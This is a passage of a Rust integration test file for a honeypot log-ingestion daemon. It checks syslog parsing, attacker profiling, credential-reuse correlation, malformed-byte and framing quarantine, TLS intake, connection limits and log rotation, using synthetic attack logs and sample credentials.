        bus_health_interval: Duration::ZERO,
        ..RegistryConfig::default()
    });
    let mut logs = reg.subscribe("system.log").await.unwrap();
    let mut mail = reg.subscribe("email.received").await.unwrap();
    let mut probe = reg.subscribe("smtp.probe.pending").await.unwrap();
    let mut attackers = reg.subscribe("attacker.*").await.unwrap();
    let mut creds = reg.subscribe("credential.captured").await.unwrap();

    let lines: Vec<String> = vec![
        r#"<134>1 2026-05-14T09:30:00Z relay-01 smtp_relay - message_stored [relay@55555 src_ip="192.0.2.55" stored_as="2026-05-14T09:30:00Z_ab12_msg.eml" sha256="ab12" size="812" subject="Invoice \"Q2\"" from_hdr="Billing <billing@Corp.Example>" to_hdr="a@x.test" mail_from="<bounce@mailer.example>" rcpt_to="<a@x.test>, b@y.test, <c@x.test>" attachment_count="2"]"#.into(),
        r#"<134>1 2026-05-14T09:31:00Z web-01 ssh - auth_attempt [relay@55555 username="root" secret_printable="toor" secret_b64="dG9vcg==" src_ip="192.0.2.55"]"#.into(),
        "not syslog at all".into(),
    ];
    let s = IngestSettings {
        profile_interval_ms: 3_600_000,
        ..ingest_settings()
    };
    let mut p = Pipeline::new(
        db.clone(),
        Some(reg.clone()),
        &s,
        Arc::new(IngestCounters::default()),
    );
    // start-up pass over an empty database
    p.profile_if_due(true).await;
    drain(&mut attackers).await;
    p.commit(&raw(&lines), None).await.unwrap();

    // one system.log per stored line, none for the quarantined one
    let got = drain(&mut logs).await;
    let stored: Vec<_> = got
        .iter()
        .filter(|e| e["type"] != "batch_committed")
        .collect();
    assert!(got
        .iter()
        .any(|e| e["type"] == "batch_committed" && e["payload"]["flushed"] == 2));
    assert_eq!(stored.len(), 2, "{got:#?}");
    assert_eq!(stored[0]["payload"]["service"], "smtp_relay");
    assert_eq!(stored[1]["payload"]["attacker_ip"], "192.0.2.55");

    // the mail artifact: the attacker row does not exist yet (the profiler has not run), so
    // email.received waits for it; the SMTP probe request needs no attacker
    let pr = drain(&mut probe).await;
    assert_eq!(pr.len(), 1, "{pr:#?}");
    assert_eq!(pr[0]["payload"]["attacker_ip"], "192.0.2.55");
    assert_eq!(
        pr[0]["payload"]["stored_as"],
        "2026-05-14T09:30:00Z_ab12_msg.eml"
    );
    assert_eq!(drain(&mut creds).await.len(), 1);

    // the profiler pass creates the attacker and announces it with its uuid
    p.profile_if_due(true).await;
    let att = drain(&mut attackers).await;
    let uuid = att
        .iter()
        .find(|e| e["topic"] == "attacker.scored")
        .and_then(|e| e["payload"]["attacker_uuid"].as_str())
        .expect("attacker.scored carries the attacker uuid")
        .to_owned();
    assert!(att
        .iter()
        .any(|e| e["topic"] == "attacker.observed" && e["payload"]["attacker_uuid"] == uuid));
    let (_, rows) = repo::list_attackers(&db, None, None, repo::AttackerSort::Recent, 10, 0)
        .await
        .unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].0.uuid, uuid);

    // a second message from the now-known attacker is announced with its uuid and domains
    let more = vec![r#"<134>1 2026-05-14T09:40:00Z relay-01 smtp_relay - message_stored [relay@55555 src_ip="192.0.2.55" stored_as="m2.eml" subject="again" from_hdr="x@Corp.Example" mail_from="bounce@mailer.example" rcpt_to="a@x.test,b@y.test" attachment_count="0"]"#.to_string()];
    p.commit(&raw(&more), None).await.unwrap();
    let em = drain(&mut mail).await;
    let m = em
        .iter()
        .find(|e| e["payload"]["stored_as"] == "m2.eml")
        .unwrap_or_else(|| panic!("no email.received for m2.eml: {em:#?}"));
    assert_eq!(m["payload"]["attacker_uuid"], uuid);
    assert_eq!(m["payload"]["from_domain"], "corp.example");
    assert_eq!(m["payload"]["mail_from_domain"], "mailer.example");
    assert_eq!(m["payload"]["rcpt_count"], 2);
    assert_eq!(m["payload"]["decky_id"], "relay-01");
}

// ---------------------------------------------------------------- profiler failure

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failed_profiler_pass_backs_off_and_loses_nothing() {
    let (_dir, db) = common::sqlite_db().await;
    let s = IngestSettings {
        profile_interval_ms: 3_600_000,
        ..ingest_settings()
    };
    let counters = Arc::new(IngestCounters::default());
    let mut p = Pipeline::new(db.clone(), None, &s, counters.clone());
    let lines = raw(&corpus());
    // the first commit also runs the start-up pass; the second one leaves work for a pass
    let (a, b) = lines.split_at(lines.len() / 2);
    p.commit(a, None).await.unwrap();
    p.commit(b, None).await.unwrap();
    assert!(p.profile_due(true));
    // the pass writes attackers; make that fail
    exec(&db, "ALTER TABLE attackers RENAME TO attackers_away")
        .await
        .unwrap();
    p.profile_if_due(true).await;
    let errors = std::sync::atomic::AtomicU64::load(
        &counters.db_errors,
        std::sync::atomic::Ordering::Relaxed,
    );
    assert_eq!(errors, 1);
    assert!(
        !p.profile_due(true),
        "a failed pass is not retried on the next idle tick"
    );
    exec(&db, "ALTER TABLE attackers_away RENAME TO attackers")
        .await
        .unwrap();
    tokio::time::sleep(decnetd::actors::ingester::PROFILE_RETRY_MIN).await;
    assert!(p.profile_due(true));
    p.profile_if_due(true).await;
    let (total, _) = repo::list_attackers(&db, None, None, repo::AttackerSort::Recent, 1, 0)
        .await
        .unwrap();
    let mut want = std::collections::HashSet::new();
    for l in repo::all_logs(&db).await.unwrap() {
        if !l.attacker_ip.is_empty() && l.attacker_ip != "Unknown" {
            want.insert(l.attacker_ip);
        }
    }
    assert_eq!(
        total as usize,
        want.len(),
        "every attacker folded after the retry"
    );
}

/// A replay longer than one replay batch, over two files: batches are read and parsed ahead
/// while the previous one commits, yet every line lands once, the collector's rate limit
/// holds across the batch boundary, and a last line without newline (CRLF file) counts.
#[tokio::test]
async fn replay_reads_ahead_across_batches_and_files() {
    use decnetd::actors::ingester::REPLAY_MIN_BATCH;
    let (_d, db) = common::sqlite_db().await;
    let dir = tempfile::tempdir().unwrap();
    let first = dir.path().join("a.log");
    let second = dir.path().join("b.log");
    let n = REPLAY_MIN_BATCH + 700;
    let mut lines: Vec<String> = (0..n)
        .map(|i| {
            let ip = format!("198.19.{}.{}", (i / 200) % 200, i % 200);
            let sd = render_relay_element([("src_ip", ip.as_str()), ("query", "SELECT 1")]);
            format!(
                "<134>1 2026-05-16T{:02}:{:02}:{:02}.{:06}Z db-{} mysql - query {sd}",
                i / 3600,
                (i / 60) % 60,
                i % 60,
                i % 1000,
                i % 3
            )
        })
        .collect();
    // the last line of the first batch and the first of the second: one connect 0.4 s after
    // another from the same source is rate limited (window 1 s)
    let connect = |t: &str| {
        let sd = render_relay_element([("src_ip", "192.0.2.77"), ("src_port", "4000")]);
        format!("<134>1 2026-05-16T23:00:{t}Z mail-01 smtp - connect {sd}")
    };
    lines[REPLAY_MIN_BATCH - 1] = connect("00.100000");
    lines[REPLAY_MIN_BATCH] = connect("00.500000");
    lines[REPLAY_MIN_BATCH + 5] = "not syslog at all".into();
    write_lines(&first, &lines);
    let tail = [
        r#"<134>1 2026-05-17T01:00:00Z web-1 ssh - auth_attempt [relay@55555 username="root" secret_b64="cm9vdA==" src_ip="203.0.113.9"]"#,
        r#"<134>1 2026-05-17T01:00:01Z web-2 ssh - auth_attempt [relay@55555 username="root" secret_b64="cm9vdA==" src_ip="203.0.113.9"]"#,
    ];
    std::fs::write(&second, format!("{}\r\n{}", tail[0], tail[1])).unwrap();

    let s = ingest_settings();
    let sum = ingest_files(&db, None, &s, &[first.clone(), second.clone()], false)
        .await
        .unwrap();
    assert_eq!(sum.files, 2);
    assert_eq!(sum.lines, (n + 2) as u64);
    assert_eq!(sum.quarantined, 1);
    assert_eq!(
        sum.credentials, 2,
        "both lines of the CRLF file, the last without newline"
    );
    // every line but the garbage one and the rate-limited connect
    assert_eq!(sum.logs_inserted, (n + 2 - 2) as u64);
    assert_eq!(
        repo::count_logs(&db).await.unwrap() as u64,
        sum.logs_inserted
    );
    let attackers = repo::all_attackers(&db).await.unwrap();
    let ips: std::collections::HashSet<&str> = attackers.iter().map(|a| a.ip.as_str()).collect();
    assert_eq!(ips.len(), attackers.len());
    assert!(ips.contains("192.0.2.77") && ips.contains("203.0.113.9"));
    // a replay of both adds nothing
    let again = ingest_files(&db, None, &s, &[first, second], false)
        .await
        .unwrap();
    assert_eq!((again.lines, again.logs_inserted), ((n + 2) as u64, 0));
}

/// The reuse pass re-correlates only secrets with a row written since its last pass; every
/// kind of write must therefore reach it: a new row, another attempt on a stored row (upsert),
/// the profiler's uuid back-fill, and rows written after a manual purge.
async fn reuse_pass_follows_every_credential_write(db: &Db) {
    let attempt = |sec: u32, decky: &str, ip: &str, secret_b64: &str| {
        format!(
            r#"<134>1 2026-05-18T08:00:{sec:02}Z {decky} ssh - auth_attempt [relay@55555 username="root" secret_b64="{secret_b64}" src_ip="{ip}"]"#
        )
    };
    let s = IngestSettings {
        profile_interval_ms: 3_600_000,
        ..ingest_settings()
    };
    let mut p = Pipeline::new(db.clone(), None, &s, Arc::new(IngestCounters::default()));
    // the start-up fold, so that the next ones wait for the test
    p.profile_pass().await.unwrap();
    let min = s.reuse_min_targets;
    let finding = |db: &Db| {
        let db = db.clone();
        async move {
            let mut all = repo::all_reuse(&db).await.unwrap();
            assert_eq!(all.len(), 1, "{all:?}");
            all.remove(0)
        }
    };

    // new rows: two targets share a secret
    p.commit(
        &raw(&[
            attempt(1, "d1", "198.51.100.1", "c2VjcmV0"),
            attempt(2, "d2", "198.51.100.2", "c2VjcmV0"),
        ]),
        None,
    )
    .await
    .unwrap();
    let found = p.reuse_pass(min).await.unwrap();
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].target_count, found[0].attempt_count), (2, 2));
    assert!(found[0].attacker_uuids.is_empty(), "no attacker rows yet");
    let first = finding(db).await;
    assert!(p.reuse_pass(min).await.unwrap().is_empty());
    assert_eq!(
        finding(db).await,
        first,
        "a pass with nothing new changes nothing"
    );

    // another attempt on a stored row: counted, not published
    p.commit(&raw(&[attempt(3, "d1", "198.51.100.1", "c2VjcmV0")]), None)
        .await
        .unwrap();
    assert!(p.reuse_pass(min).await.unwrap().is_empty());
    assert_eq!(finding(db).await.attempt_count, 3);

    // the profiler back-fills the uuids: the finding grows
    p.profile_pass().await.unwrap();
    let grown = p.reuse_pass(min).await.unwrap();
    assert_eq!(grown.len(), 1);
    assert_eq!(grown[0].attacker_uuids.len(), 2);
    assert_eq!(grown[0].id, first.id);

    // a credential of another secret at one target touches nothing else
    let before = finding(db).await;
    p.commit(&raw(&[attempt(4, "d3", "198.51.100.3", "b3RoZXI=")]), None)
        .await
        .unwrap();
    assert!(p.reuse_pass(min).await.unwrap().is_empty());
    assert_eq!(finding(db).await, before);

    // rows purged by hand, then more writes than the cursor had counted before the next
    // pass: the shared secret written first is still correlated
    exec(db, "DELETE FROM credential_reuse").await.unwrap();
    exec(db, "DELETE FROM credentials").await.unwrap();
    p.commit(&raw(&[attempt(5, "d4", "198.51.100.4", "bmV3")]), None)
        .await
        .unwrap();
    p.commit(&raw(&[attempt(6, "d5", "198.51.100.5", "bmV3")]), None)
        .await
        .unwrap();
    for i in 0..12u32 {
        let secret = format!("{i:04}"); // four base64 digits: a 3-byte secret
        p.commit(
            &raw(&[attempt(10 + i, "d6", "198.51.100.6", &secret)]),
            None,
        )
        .await
        .unwrap();
    }
    assert_eq!(repo::all_credentials(db).await.unwrap().len(), 14);
    let again = p.reuse_pass(min).await.unwrap();
    assert_eq!(again.len(), 1);
    assert_eq!(again[0].deckies, vec!["d4", "d5"]);
}

// ---------------------------------------------------------------- hostile bytes (issue 14)

/// Lines no text column holds as they are: NUL (PostgreSQL rejects it), invalid UTF-8 (two
/// lines differing only in their invalid bytes), control characters, garbage with both, and
/// a JSON record whose decoded text holds NUL. None may stop intake or merge with another.
fn hostile() -> Vec<Vec<u8>> {
    vec![
        b"<134>1 2026-06-01T10:00:00Z nul-decky ssh - auth_attempt [relay@55555 src_ip=\"203.0.113.9\" username=\"ro\0ot\" secret_printable=\"pa\0ss\" secret_b64=\"cGEAc3M=\"] pass\0word".to_vec(),
        b"<134>1 2026-06-01T10:00:01Z bin-decky telnet - input [relay@55555 src_ip=\"203.0.113.10\"] data \xff\xfe end".to_vec(),
        b"<134>1 2026-06-01T10:00:01Z bin-decky telnet - input [relay@55555 src_ip=\"203.0.113.10\"] data \xfe\xff end".to_vec(),
        b"<134>1 2026-06-01T10:00:02Z ctl-decky ssh - command [relay@55555 src_ip=\"203.0.113.11\"] \x01\x1b[31mred\x7f\x08\ttab\x0b".to_vec(),
        b"\0\0\0 binary junk".to_vec(),
        b"junk \xff".to_vec(),
        b"junk \xfe".to_vec(),
        br#"{"timestamp": "2026-06-01T10:00:03Z", "decky": "json-decky", "service": "ssh", "event_type": "login", "attacker_ip": "203.0.113.12", "fields": {"username": "a\u0000b"}, "msg": "m\u0000", "raw_line": "x"}"#.to_vec(),
    ]
}

/// Records (4) and quarantined lines (4) of [`hostile`].
const HOSTILE_RECORDS: usize = 4;
const HOSTILE_QUARANTINED: usize = 4;

/// Every hostile line is stored exactly once, its bytes recoverable from its row.
async fn assert_hostile_stored(db: &Db, what: &str) {
    let lines = hostile();
    let logs = repo::all_logs(db).await.unwrap();
    let (_, quarantine) = repo::list_quarantine(db, 1000, 0).await.unwrap();
    let mut stored: Vec<Vec<u8>> = logs
        .iter()
        .map(|l| {
            l.raw_bytes
                .clone()
                .unwrap_or_else(|| l.raw_line.clone().into_bytes())
        })
        .chain(quarantine.iter().map(|q| {
            q.raw_bytes
                .clone()
                .unwrap_or_else(|| q.raw_line.clone().into_bytes())
        }))
        .collect();
    stored.sort();
    let mut want = lines.clone();
    want.sort();
    assert_eq!(
        stored
            .iter()
            .map(|b| String::from_utf8_lossy(b).into_owned())
            .collect::<Vec<_>>(),
        want.iter()
            .map(|b| String::from_utf8_lossy(b).into_owned())
            .collect::<Vec<_>>(),
        "{what}: rows"
    );
    assert_eq!(stored, want, "{what}: exact bytes");
    assert_eq!(logs.len(), HOSTILE_RECORDS, "{what}: log rows");
    assert_eq!(
        quarantine.len(),
        HOSTILE_QUARANTINED,
        "{what}: quarantine rows"
    );
    assert!(
        logs.iter()
            .all(|l| !l.raw_line.contains('\0') && !l.decky.contains('\0')),
        "{what}: no NUL in text"
    );
}

on_both_backends!(hostile_bytes_are_stored_exactly_by_replay_and_tail);

async fn hostile_bytes_are_stored_exactly_by_replay_and_tail(db: &Db) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("hostile.log");
    let mut body = Vec::new();
    for l in hostile() {
        body.extend_from_slice(&l);
        body.push(b'\n');
    }
    std::fs::write(&file, &body).unwrap();
    // `decnetd ingest`
    let sum = ingest_files(
        db,
        None,
        &ingest_settings(),
        std::slice::from_ref(&file),
        false,
    )
    .await
    .expect("a NUL byte must not abort the replay");
    assert_eq!(sum.logs_inserted as usize, HOSTILE_RECORDS);
    assert_hostile_stored(db, "replay").await;
    // the live tail reads the same file: everything is already there, nothing doubles
    let mut tail = FileTail::load(db, &file).await.unwrap();
    let counters = Arc::new(IngestCounters::default());
    let mut p = Pipeline::new(db.clone(), None, &ingest_settings(), counters);
    let TailRead::Lines(lines, end) = tail.read(100).unwrap() else {
        panic!("tail read nothing")
    };
    assert_eq!(end, body.len() as u64);
    p.commit(&lines, Some(end)).await.expect("tail commit");
    assert_hostile_stored(db, "tail after replay").await;
}

/// The daemon's own loop and listeners on one backend: the file tail, newline-framed and
/// octet-counted TCP, and TLS each store the hostile corpus exactly.
async fn hostile_through_the_daemon(db_url: Option<String>) {
    use tokio::io::AsyncWriteExt;
    let pki = make_pki();
    let lines = hostile();
    for way in ["tail", "tcp-newline", "tcp-octet", "tls"] {
        let dir = tempfile::tempdir().unwrap();
        let mut s = daemon_settings(dir.path());
        s.db.url = db_url.clone().map(decnetd::config::Secret::new);
        let port = free_port();
        let mut newline = Vec::new();
        let mut octet = Vec::new();
        for l in &lines {
            newline.extend_from_slice(l);
            newline.push(b'\n');
            octet.extend_from_slice(format!("{} ", l.len()).as_bytes());
            octet.extend_from_slice(l);
        }
        match way {
            "tail" => std::fs::write(&s.ingest.log_file, &newline).unwrap(),
            "tls" => with_tls(&mut s, dir.path(), &pki, port),
            _ => s.ingest.syslog_tcp_bind = Some(format!("127.0.0.1:{port}")),
        }
        let app = testkit::start(s).await.unwrap();
        match way {
            "tail" => {}
            "tls" => {
                tokio::time::sleep(Duration::from_millis(300)).await;
                tls_send(port, &pki, &octet).await;
            }
            _ => {
                let mut sock = connect_retry(port).await;
                let payload = if way == "tcp-newline" {
                    &newline
                } else {
                    &octet
                };
                sock.write_all(payload).await.unwrap();
                sock.shutdown().await.unwrap();
            }
        }
        let db = &app.state.db;
        let ok = testkit::eventually(Duration::from_secs(30), || async {
            let n = repo::count_logs(db).await.ok()?;
            let (q, _) = repo::list_quarantine(db, 1, 0).await.ok()?;
            (n as usize >= HOSTILE_RECORDS && q as usize >= HOSTILE_QUARANTINED).then_some(())
        })
        .await;
        if ok.is_none() {
            let h = app.state.status.extra_of("ingester");
            panic!("{way}: rows did not arrive; health {h:?}");
        }
        assert_hostile_stored(db, way).await;
        app.stop().await;
    }
}

async fn connect_retry(port: u16) -> tokio::net::TcpStream {
    for _ in 0..100 {
        if let Ok(c) = tokio::net::TcpStream::connect(("127.0.0.1", port)).await {
            return c;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("listener on {port} not up")
}

#[actix_rt::test]
async fn hostile_bytes_through_every_daemon_path_sqlite() {
    hostile_through_the_daemon(None).await;
}

#[actix_rt::test]
async fn hostile_bytes_through_every_daemon_path_postgres() {
    let Some(url) = common::pg_database_url().await else {
        return;
    };
    hostile_through_the_daemon(Some(url)).await;
}

// ---------------------------------------------------------------- framing (issue 14)

fn good(i: u32) -> String {
    format!(
        r#"<134>1 2026-06-02T10:00:{i:02}Z frame-{i} ssh - connect [relay@55555 src_ip="192.0.2.{i}"]"#
    )
}

/// Junk, bad prefixes, oversize and truncated frames are quarantined (`framing`) and counted;
/// the connection goes on and every good neighbour lands; the file tail applies the same
/// limit (one quarantine row keeping the head of a 10 MB line).
#[actix_rt::test]
async fn framing_errors_are_quarantined_and_neighbours_land() {
    use tokio::io::AsyncWriteExt;
    let dir = tempfile::tempdir().unwrap();
    let (mut s, port) = tcp_daemon_settings(dir.path());
    s.ingest.max_frame_bytes = 2048;
    // the tail: a good line, a 10 MB line, a good line
    let mut body = format!("{}\n", good(8)).into_bytes();
    body.extend(std::iter::repeat_n(b'x', 10 << 20));
    body.push(b'\n');
    body.extend(format!("{}\n", good(9)).into_bytes());
    std::fs::write(&s.ingest.log_file, &body).unwrap();
    let app = testkit::start(s).await.unwrap();

    // A: newline framing with digit-led junk and an oversize line
    let mut a = connect_retry(port).await;
    let long = format!("<13>1 {}", "y".repeat(5000));
    let wire = format!(
        "220 mail ESMTP ready\n{}\n2026-12-06 12:00:00 plain text\n{}\n{long}\n{}\n",
        good(1),
        good(2),
        good(3)
    );
    a.write_all(wire.as_bytes()).await.unwrap();
    // B: octet counting with a bad prefix, an oversize frame and a frame cut short at the end
    let mut b = connect_retry(port).await;
    let frame = |l: &str| format!("{} {l}", l.len());
    let big = format!("<13>1 {}", "z".repeat(3000));
    let wire = format!(
        "{}12 xxxxxxxxxxxxxxxxxx{}{}{}500 <13>1 cut short",
        frame(&good(5)),
        frame(&good(6)),
        frame(&big),
        frame(&good(7)),
    );
    b.write_all(wire.as_bytes()).await.unwrap();
    b.shutdown().await.unwrap();
    // A is still open after its bad frames: one more line on it, then close
    tokio::time::sleep(Duration::from_millis(300)).await;
    a.write_all(format!("{}\n", good(4)).as_bytes())
        .await
        .unwrap();
    a.shutdown().await.unwrap();

    let db = &app.state.db;
    let want_logs = 9;
    let want_framing = 7;
    let ok = testkit::eventually(Duration::from_secs(30), || async {
        let n = repo::count_logs(db).await.ok()?;
        let (_, q) = repo::list_quarantine(db, 100, 0).await.ok()?;
        let f = q.iter().filter(|q| q.reason_code == "framing").count();
        (n >= want_logs && f >= want_framing).then_some(())
    })
    .await;
    let logs = repo::all_logs(db).await.unwrap();
    let (_, q) = repo::list_quarantine(db, 100, 0).await.unwrap();
    assert!(
        ok.is_some(),
        "logs {:?}\nquarantine {:?}",
        logs.iter().map(|l| &l.decky).collect::<Vec<_>>(),
        q.iter()
            .map(|q| (&q.reason_code, &q.reason))
            .collect::<Vec<_>>()
    );
    let mut deckies: Vec<_> = logs.iter().map(|l| l.decky.clone()).collect();
    deckies.sort();
    assert_eq!(
        deckies,
        (1..=9).map(|i| format!("frame-{i}")).collect::<Vec<_>>()
    );
    assert_eq!(q.len(), want_framing, "{q:?}");
    assert!(q.iter().all(|q| q.reason_code == "framing"));
    let tail_row = q
        .iter()
        .find(|q| q.source.starts_with("file:"))
        .expect("the 10 MB line is quarantined once");
    assert_eq!(tail_row.raw_line, "x".repeat(2048), "its head is kept");
    assert!(
        tail_row.reason.contains(&(10usize << 20).to_string()),
        "{}",
        tail_row.reason
    );
    assert!(q.iter().any(|q| q.raw_line == "220 mail ESMTP ready"));
    assert!(
        q.iter()
            .any(|q| q.reason.contains("ended 15 bytes into a frame of 500")),
        "{q:?}"
    );
    let counted = testkit::eventually(Duration::from_secs(10), || async {
        let extra = app.state.status.extra_of("ingester")?;
        (extra.get("frames_rejected")?.as_u64()? >= 6).then_some(())
    })
    .await;
    assert!(
        counted.is_some(),
        "{:?}",
        app.state.status.extra_of("ingester")
    );
    app.stop().await;
}

// ---------------------------------------------------------------- TLS 1.3 write-and-close (issue 14)

/// `n` distinct lines.
/// `lines` as one LF-framed byte stream.
fn lf_wire(lines: &[String]) -> Vec<u8> {
    let mut wire = Vec::new();
    for l in lines {
        wire.extend_from_slice(l.as_bytes());
        wire.push(b'\n');
    }
    wire
}

fn numbered(n: u32, tag: &str) -> Vec<String> {
    (0..n)
        .map(|i| {
            format!(
                r#"<134>1 2026-06-03T10:{:02}:{:02}.{:06}Z {tag}-{} ssh - connect [relay@55555 src_ip="192.0.2.{}" seq="{i}"]"#,
                (i / 60) % 60,
                i % 60,
                i,
                i % 8,
                1 + i % 200
            )
        })
        .collect()
}

/// A TLS 1.3 forwarder that writes everything and closes without ever reading (the reference
/// forwarder's stack): session tickets the server sent after the handshake would sit unread
/// in its socket, its close would reset the connection and the kernel would discard what
/// decnetd had not read yet. Every line must land.
#[actix_rt::test]
async fn tls13_write_and_close_client_loses_nothing() {
    use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer, ServerName};
    use tokio::io::AsyncWriteExt;
    let dir = tempfile::tempdir().unwrap();
    let pki = make_pki();
    let mut s = daemon_settings(dir.path());
    let port = free_port();
    with_tls(&mut s, dir.path(), &pki, port);
    let app = testkit::start(s).await.unwrap();
    let lines = numbered(20_000, "tls13");

    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut roots = rustls::RootCertStore::empty();
    roots.add(CertificateDer::from(pki.ca_der.clone())).unwrap();
    let cfg = rustls::ClientConfig::builder_with_provider(provider)
        .with_protocol_versions(&[&rustls::version::TLS13])
        .unwrap()
        .with_root_certificates(roots)
        .with_client_auth_cert(
            vec![CertificateDer::from(pki.client_der.clone())],
            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(pki.client_key_der.clone())),
        )
        .unwrap();
    let connector = tokio_rustls::TlsConnector::from(Arc::new(cfg));
    let tcp = connect_retry(port).await;
    let mut tls = connector
        .connect(ServerName::try_from("localhost").unwrap(), tcp)
        .await
        .unwrap();
    assert_eq!(
        tls.get_ref().1.protocol_version(),
        Some(rustls::ProtocolVersion::TLSv1_3)
    );
    let mut wire = Vec::new();
    for l in &lines {
        wire.extend_from_slice(format!("{} {l}", l.len()).as_bytes());
    }
    tls.write_all(&wire).await.unwrap();
    tls.shutdown().await.unwrap();
    drop(tls); // never read: whatever the server sent stays unread

    let db = &app.state.db;
    let want = lines.len() as i64;
    let got = testkit::eventually(Duration::from_secs(90), || async {
        let n = repo::count_logs(db).await.ok()?;
        (n >= want).then_some(n)
    })
    .await;
    let n = repo::count_logs(db).await.unwrap();
    assert!(got.is_some(), "{n} of {want} lines landed");
    app.stop().await;
}

// ---------------------------------------------------------------- stop, caps, timeouts (issue 14)

/// A graceful stop while a sender streams: the listener stops accepting, reads what the
/// connection still delivers, and every line is committed before the ingester ends.
#[actix_rt::test]
async fn stop_while_a_sender_streams_loses_nothing() {
    use tokio::io::AsyncWriteExt;
    let dir = tempfile::tempdir().unwrap();
    let (mut s, port) = tcp_daemon_settings(dir.path());
    s.ingest.batch_size = 500;
    s.workers.shutdown_grace_s = 30.0;
    let app = testkit::start(s).await.unwrap();
    let lines = numbered(10_000, "stream");
    let wire = lf_wire(&lines);
    let mut sock = connect_retry(port).await;
    let sender = tokio::spawn(async move {
        for chunk in wire.chunks(64 * 1024) {
            sock.write_all(chunk).await.unwrap();
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        sock.shutdown().await.unwrap();
    });
    let db = app.state.db.clone();
    let started = testkit::eventually(Duration::from_secs(30), || async {
        (repo::count_logs(&db).await.ok()? > 0).then_some(())
    })
    .await;
    assert!(started.is_some(), "nothing arrived");
    app.stop().await;
    sender.await.unwrap();
    let n = repo::count_logs(&db).await.unwrap();
    assert_eq!(n, lines.len() as i64, "lines lost on stop");
}

/// Idle connections beyond the cap are closed at accept, idle ones time out, and neither the
/// file tail nor a later sender is held up.
#[actix_rt::test]
async fn connection_cap_and_idle_timeout_keep_intake_going() {
    use tokio::io::AsyncWriteExt;
    let dir = tempfile::tempdir().unwrap();
    let (mut s, port) = tcp_daemon_settings(dir.path());
    s.ingest.max_connections = 20;
    s.ingest.idle_timeout_s = 1.0;
    let log_file = s.ingest.log_file.clone();
    let app = testkit::start(s).await.unwrap();
    let first = connect_retry(port).await;
    let mut idle = vec![first];
    for _ in 0..59 {
        idle.push(
            tokio::net::TcpStream::connect(("127.0.0.1", port))
                .await
                .unwrap(),
        );
    }
    // the tail keeps going while the listener is full
    write_lines(&log_file, &numbered(10, "tail"));
    let db = app.state.db.clone();
    let tail = testkit::eventually(Duration::from_secs(20), || async {
        (repo::count_logs(&db).await.ok()? >= 10).then_some(())
    })
    .await;
    assert!(tail.is_some(), "the tail stalled");
    // once the idle ones time out, a sender gets in and lands everything
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let lines = numbered(200, "late");
    let mut sock = connect_retry(port).await;
    for l in &lines {
        sock.write_all(format!("{l}\n").as_bytes()).await.unwrap();
    }
    sock.shutdown().await.unwrap();
    let all = testkit::eventually(Duration::from_secs(20), || async {
        (repo::count_logs(&db).await.ok()? >= 210).then_some(())
    })
    .await;
    assert!(all.is_some(), "late sender lost lines");
    let _ = testkit::eventually(Duration::from_secs(10), || async {
        let extra = app.state.status.extra_of("ingester")?;
        (extra.get("timeouts")?.as_u64()? >= 20).then_some(())
    })
    .await;
    let extra = app.state.status.extra_of("ingester").unwrap_or_default();
    let get = |k: &str| extra.get(k).and_then(|v| v.as_u64()).unwrap_or(0);
    assert!(get("connections_refused") >= 40, "{extra:?}");
    assert!(get("timeouts") >= 20, "{extra:?}");
    drop(idle);
    app.stop().await;
}

// ---------------------------------------------------------------- rotation while down (issue 14)

/// The daemon's tail loop in miniature: read and commit until the file stays idle.
async fn tail_until_idle(db: &Db, path: &Path) {
    let mut tail = FileTail::load(db, path).await.unwrap();
    let mut p = Pipeline::new(
        db.clone(),
        None,
        &ingest_settings(),
        Arc::new(IngestCounters::default()),
    );
    let mut idle = 0;
    while idle < 3 {
        match tail.read(1000).unwrap() {
            TailRead::Idle => idle += 1,
            TailRead::Reset => {
                decnetd::db::repo::state::set(
                    db,
                    "ingest_worker_position",
                    &serde_json::json!({"position": 0}),
                )
                .await
                .unwrap();
            }
            TailRead::Lines(lines, end) => {
                p.set_tail_identity(tail.identity());
                p.commit(&lines, Some(end)).await.unwrap();
                tail.position = end;
            }
        }
    }
}

on_both_backends!(rotation_while_down_loses_nothing);

/// Rotated while the daemon was down: the stored offset belongs to the old file (identified
/// by inode and head), so the old file is finished and the new one read from 0; with the old
/// file gone, the new one is still read from 0.
async fn rotation_while_down_loses_nothing(db: &Db) {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("decnet.log");
    write_lines(&f, &numbered(100, "before"));
    tail_until_idle(db, &f).await;
    assert_eq!(repo::count_logs(db).await.unwrap(), 100);
    // down: 50 more lines reach the old file, then it is rotated and a new one started
    write_lines(&f, &numbered(50, "unread"));
    std::fs::rename(&f, dir.path().join("decnet.log.1")).unwrap();
    write_lines(&f, &numbered(30, "after"));
    tail_until_idle(db, &f).await;
    assert_eq!(
        repo::count_logs(db).await.unwrap(),
        180,
        "old file finished, new one from 0"
    );
    // down again: rotated and the old file deleted
    std::fs::remove_file(dir.path().join("decnet.log.1")).unwrap();
    std::fs::rename(&f, dir.path().join("decnet.log.1")).unwrap();
    std::fs::remove_file(dir.path().join("decnet.log.1")).unwrap();
    write_lines(&f, &numbered(20, "third"));
    tail_until_idle(db, &f).await;
    assert_eq!(repo::count_logs(db).await.unwrap(), 200, "new file from 0");
}

// ---------------------------------------------------------------- batches grow with the backlog (issue 18)

/// A backlog goes in large transactions: 4,000 lines already in the tailed file, then 4,000
/// already queued by a TCP sender, each commit far fewer than the 40 batches of `batch_size`
/// (100) lines each would need; every line lands, and a quiet line after the backlog still
/// lands alone.
#[actix_rt::test]
async fn batches_grow_with_the_backlog() {
    use tokio::io::AsyncWriteExt;
    let dir = tempfile::tempdir().unwrap();
    let (mut s, port) = tcp_daemon_settings(dir.path());
    s.ingest.batch_size = 100;
    s.ingest.batch_max_size = 5_000;
    let log_file = s.ingest.log_file.clone();
    let app = testkit::start(s).await.unwrap();
    // The ingester's counters as its last heartbeat reported them.
    let counter = |key: &str| {
        app.state
            .status
            .extra_of("ingester")
